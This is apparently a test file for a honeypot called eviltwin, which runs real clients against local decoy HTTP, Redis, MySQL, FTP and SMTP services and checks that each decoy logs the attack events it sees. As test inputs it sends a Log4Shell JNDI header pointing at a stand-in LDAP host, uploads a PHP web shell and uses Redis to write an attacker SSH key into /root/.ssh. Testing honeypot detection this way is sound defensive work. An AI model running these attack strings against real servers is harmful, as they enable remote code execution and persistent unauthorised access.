import { type ChildProcess, execFile, spawn } from 'node:child_process'
import { createHash, randomBytes } from 'node:crypto'
import { once } from 'node:events'
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { fileURLToPath } from 'node:url'
import type { Event } from '@eviltwin/contract'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { baitSecretsOf } from '../server/src/decoys/bait/bait-secrets.js'
import { createIdentity } from '../server/src/decoys/identity.js'
import { redisProfileOf } from '../server/src/decoys/redis/redis-profile.js'
import { freePort } from '../server/src/testing/free-port.js'
import { until } from '../server/src/testing/until.js'
import { eventsOf as eventsFrom, type ServerWithDecoys, startWithDecoys } from './decoys.js'
import {
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  reader,
} from './server-process.js'

const PROGRAM = fileURLToPath(new URL('../server/bin/eviltwin.mjs', import.meta.url))
const PROTOCOLS = ['http', 'redis', 'mysql', 'ftp', 'smtp'] as const
type Protocol = (typeof PROTOCOLS)[number]
const AS_NOBODY = process.getuid?.() === 0 ? ['--user', 'nobody'] : []

/** An installation whose Redis asks for no password. */
const seed = openSeed()
const secrets = baitSecretsOf(createIdentity(seed))

const directory = mkdtempSync(join(tmpdir(), 'eviltwin-services-'))
// Decoys that run as another user pass through it.
chmodSync(directory, 0o755)
let decoys: ServerWithDecoys<Protocol>
let installation: Installation
let server: RunningServer
let ports: ServerWithDecoys<Protocol>['ports']

beforeAll(async () => {
  decoys = await startWithDecoys(PROTOCOLS, { seed })
  ;({ installation, server, ports } = decoys)
})

afterAll(async () => {
  await decoys?.stop()
  rmSync(directory, { recursive: true, force: true })
})

/** The events of all sessions by this protocol, once there is one that `isThere` accepts. */
async function eventsOf(
  protocol: Protocol,
  isThere: (event: Event) => boolean,
  read = decoys.get,
): Promise<Event[]> {
  const isOurs = (event: Event) => event.protocol === protocol
  const events = await eventsFrom(read, '127.0.0.1', (event) => isOurs(event) && isThere(event))
  return events.filter(isOurs)
}

interface Ended {
  stdout: string
  stderr: string
}

/** What a client printed, however it ended. */
function client(program: string, ...parameters: string[]): Promise<Ended> {
  return new Promise((resolve) => {
    const environment = { ...process.env, HOME: directory }
    execFile(program, parameters, { env: environment }, (_error, stdout, stderr) =>
      resolve({ stdout, stderr }),
    )
  })
}

function sha256(content: string): string {
  return createHash('sha256').update(content).digest('hex')
}

const at = (protocol: Protocol) => `127.0.0.1:${ports[protocol]}`
const has = (program: string) => existsSync(`/usr/bin/${program}`)

describe('decoys beside the server, and real clients', () => {
  test.runIf(has('curl'))('curl finds a secret by HTTP, and uses it', async () => {
    const { stdout } = await client('curl', '-s', `http://${at('http')}/.env`)
    expect(stdout).toContain(secrets.databasePassword)
    await client(
      'curl',
      '-s',
      '-d',
      `log=admin&pwd=${secrets.databasePassword}`,
      `http://${at('http')}/wp-login.php`,
    )
    await client('curl', '-s', '-H', 'User-Agent: $\x7bjndi:ldap://203.0.113.9/x}', `http://${at('http')}/`)
    writeFileSync(join(directory, 'shell.php'), '<?php echo 1;')
    await client('curl', '-s', '-T', join(directory, 'shell.php'), `http://${at('http')}/dav/shell.php`)
    const events = await eventsOf('http', ({ event_type }) => event_type === 'file_upload')
    expect(events).toContainEqual(
      expect.objectContaining({
        event_type: 'login_attempt',
        action: 'http.login.wordpress',
        outcome: 'success',
        username: 'admin',
        password: secrets.databasePassword,
        sensor_kind: 'eviltwin',
      }),
    )
    expect(events).toContainEqual(
      expect.objectContaining({ event_type: 'exploit', action: 'http.log4shell' }),
    )
    expect(events).toContainEqual(
      expect.objectContaining({ event_type: 'file_upload', file_sha256: sha256('<?php echo 1;') }),
    )
  })

  test.runIf(has('redis-cli'))('redis-cli leaves a key for SSH', async () => {
    const redis = (...words: string[]) => client('redis-cli', '-p', String(ports.redis), ...words)
    expect((await redis('info')).stdout).toContain('redis_version:')
    await redis('config', 'set', 'dir', '/root/.ssh')
    await redis('set', 'x', 'ssh-ed25519 AAAA attacker')
    const events = await eventsOf('redis', ({ action }) => action === 'redis.payload')
    expect(events).toContainEqual(expect.objectContaining({ event_type: 'command', command: 'INFO' }))
    expect(events).toContainEqual(
      expect.objectContaining({ event_type: 'exploit', action: 'redis.write_ssh_key' }),
    )
    expect(events).toContainEqual(
      expect.objectContaining({ file_sha256: sha256('ssh-ed25519 AAAA attacker') }),
    )
  })

  test.runIf(has('mariadb'))('the client of MariaDB logs in and asks', async () => {
    const mariadb = (password: string, sql: string) =>
      client(
        'mariadb',
        ...['--no-defaults', '-h', '127.0.0.1', '-P', String(ports.mysql), '--protocol=tcp', '--skip-ssl'],
        ...['-u', 'root', `-p${password}`, '-e', sql],
      )
    expect((await mariadb('no-such-password', 'select 1')).stderr).toContain('Access denied')
    expect((await mariadb(secrets.databasePassword, 'show databases')).stdout).toContain('information_schema')
    const events = await eventsOf('mysql', ({ command }) => command === 'show databases')
    expect(events).toContainEqual(expect.objectContaining({ username: 'root', outcome: 'failure' }))
    expect(events).toContainEqual(
      expect.objectContaining({ username: 'root', outcome: 'success', password: secrets.databasePassword }),
    )
  })

  test.runIf(has('curl'))('curl stores a file by FTP', async () => {
    writeFileSync(join(directory, 'tool'), 'a tool')
    await client('curl', '-s', '-T', join(directory, 'tool'), `ftp://${at('ftp')}/tool`)
    await client('curl', '-s', '-u', 'root:toor-unlikely', `ftp://${at('ftp')}/`)
    const events = await eventsOf('ftp', ({ password }) => password === 'toor-unlikely')
    expect(events).toContainEqual(
      expect.objectContaining({
        event_type: 'file_upload',
        action: 'ftp.stor',
        file_sha256: sha256('a tool'),
      }),
    )
    expect(events).toContainEqual(expect.objectContaining({ event_type: 'command', action: 'ftp.epsv' }))
  })

  test.runIf(has('swaks'))('swaks logs in and sends a message that goes nowhere', async () => {
    const { stdout } = await client(
      'swaks',
      ...['--server', '127.0.0.1', '--port', String(ports.smtp), '--from', 'a@example.com'],
      ...['--to', 'b@example.net', '--auth', 'PLAIN', '--auth-user', 'joe'],
      ...['--auth-password', secrets.adminPassword],
    )
    expect(stdout).toContain('250')
    const events = await eventsOf('smtp', ({ action }) => action === 'smtp.message')
    expect(events).toContainEqual(
      expect.objectContaining({
        event_type: 'login_attempt',
        username: 'joe',
        password: secrets.adminPassword,
      }),
    )
    expect(events).toContainEqual(
      expect.objectContaining({ event_type: 'file_upload', message: 'from a@example.com to b@example.net' }),
    )
  })

  test('three thousand connections with noise leave all of them alive', async () => {
    const noise = new Map<Protocol, string>([
      ['http', 'GET /?a=b HTTP/1.1\r\nHost: a\r\n\r\n'],
      ['redis', '*1\r\n$4\r\nPING\r\n'],
      ['mysql', '\x05\x00\x00\x01\x03test'],
      ['ftp', 'USER anonymous\r\nPASS x\r\nPASV\r\n'],
      ['smtp', 'EHLO x\r\nMAIL FROM:<a@b>\r\n'],
    ])
    for (let round = 0; round < 60; round += 1)
      await Promise.all(
        PROTOCOLS.flatMap((protocol) =>
          Array.from({ length: 10 }, (_, index) => {
            const prefix = index % 2 === 0 ? (noise.get(protocol) ?? '') : ''
            const bytes = Buffer.concat([Buffer.from(prefix, 'latin1'), randomBytes((round * 37) % 900)])
            return throwAt(ports[protocol], `127.0.3.${1 + ((round * 10 + index) % 200)}`, bytes)
          }),
        ),
      )
    const answers = await Promise.all(PROTOCOLS.map((protocol) => firstAnswer(ports[protocol], protocol)))
    expect(answers.map((answer) => answer.length > 0)).toEqual(PROTOCOLS.map(() => true))
    // Not one of them ended and was started again.
    expect(server.output().stdout.match(/"message":"Decoy started"/g)).toHaveLength(PROTOCOLS.length)
    expect(server.output().stdout).not.toContain('A decoy failed in a connection')
  })
})

describe('a decoy apart from the server', () => {
  test('connections beyond those of an address are refused, and what was recorded while the server was away arrives', async () => {
    const own = await createInstallation({ ADMIN_PASSWORD: PASSWORD })
    const state = join(own.dataDir, 'away')
    const port = await freePort()
    let ownServer = await own.start()
    const { stdout: key } = await own.run('key', 'add', 'decoy', '--sensor', 'decoy-away')
    const bounds = ['--max-connections', '6', '--max-connections-per-address', '4']
    const decoy = await listening(
      spawn(
        process.execPath,
        [PROGRAM, 'decoy', 'ftp', '--port', String(port), '--state', state, ...bounds, ...AS_NOBODY],
        {
          env: { ...own.environment, EVILTWIN_KEY: key.trim() },
          stdio: ['ignore', 'pipe', 'pipe'],
        },
      ),
    )
    const held = Array.from({ length: 4 }, () => connect(port, '127.0.0.1'))
    await Promise.all(held.map((socket) => once(socket, 'data')))
    const fifth = connect(port, '127.0.0.1').on('error', () => {})
    await once(fifth, 'close')

    await ownServer.kill('SIGTERM')
    held[0]?.write('USER held-while-away\r\nPASS secret-while-away\r\n')
    const spool = join(state, 'decoys', 'ftp', 'records')
    await until(() => filesIn(spool).some((text) => text.includes('secret-while-away')))
    ownServer = await own.start()
    const events = await eventsOf(
      'ftp',
      ({ password }) => password === 'secret-while-away',
      await reader(own.url),
    )
    expect(events).toContainEqual(expect.objectContaining({ username: 'held-while-away' }))
    // The connection is the same one, and goes on.
    held[0]?.write('QUIT\r\n')
    expect(String((await once(held[0] ?? fifth, 'data'))[0])).toMatch(/^\d{3} /)
    for (const socket of held) socket.destroy()
    decoy.kill('SIGTERM')
    await once(decoy, 'close')
    await ownServer.kill('SIGTERM')
    own.remove()
    // It starts two servers, and waits for the pause after a server was away.
  }, 400_000)

  test('pages of a file are shown by HTTP; a file that is wrong is refused', async () => {
    const port = await freePort()
    const file = join(directory, 'bait.yaml')
    const words = ['decoy', 'http', '--port', String(port), '--bait', file]
    const state = ['--state', join(directory, 'state'), ...AS_NOBODY]
    writeFileSync(file, 'pages: [{ path: nowhere }]')
    const refused = await installation.run(...words, ...state)
    expect(refused.code).toBe(1)
    expect(refused.stderr).toMatch(/bait\.yaml[\s\S]*pages\[0\]\.path/)
    writeFileSync(file, 'pages: [{ path: /plan, body: the plan }]')
    const decoy = await listening(
      spawn(process.execPath, [PROGRAM, ...words, ...state], {
        env: installation.environment,
        stdio: ['ignore', 'pipe', 'pipe'],
      }),
    )
    const answer = await fetch(`http://127.0.0.1:${port}/plan`)
    expect(await answer.text()).toBe('the plan')
    decoy.kill('SIGTERM')
    await once(decoy, 'close')
  })
})

function openSeed(): Buffer {
  for (let n = 0; n < 256; n += 1) {
    const candidate = Buffer.alloc(32, n)
    if (!redisProfileOf(createIdentity(candidate), 0).needsPassword) return candidate
  }
  throw new Error('there is no such identity')
}

/** Sends the bytes, and waits for the end of the connection. */
async function throwAt(port: number, localAddress: string, bytes: Buffer): Promise<void> {
  const socket = connect({ port, host: '127.0.0.1', localAddress })
  socket.on('error', () => {})
  socket.resume()
  socket.end(bytes)
  await once(socket, 'close').catch(() => {})
}

/** What a server says first; HTTP and Redis are asked. */
async function firstAnswer(port: number, protocol: Protocol): Promise<string> {
  const socket = connect({ port, host: '127.0.0.1', localAddress: '127.0.4.1' })
  if (protocol === 'http') socket.write('GET / HTTP/1.0\r\n\r\n')
  if (protocol === 'redis') socket.write('PING\r\n')
  const [data] = await once(socket, 'data')
  socket.destroy()
  return String(data)
}

async function listening(child: ChildProcess): Promise<ChildProcess> {
  let stdout = ''
  let stderr = ''
  child.stdout?.on('data', (chunk) => {
    stdout += chunk
  })
  child.stderr?.on('data', (chunk) => {
    stderr += chunk
  })
  await until(() => {
    if (child.exitCode !== null) throw new Error(`the decoy ended: ${stderr}${stdout}`)
    return stdout.includes('Decoy listens')
  })
  return child
}

function filesIn(folder: string): string[] {
  // The process that writes them may remove one meanwhile.
  const names = existsSync(folder) ? readdirSync(folder) : []
  return names.flatMap((name) => {
    try {
      return [readFileSync(join(folder, name), 'utf8')]
    } catch {
      return []
    }
  })
}
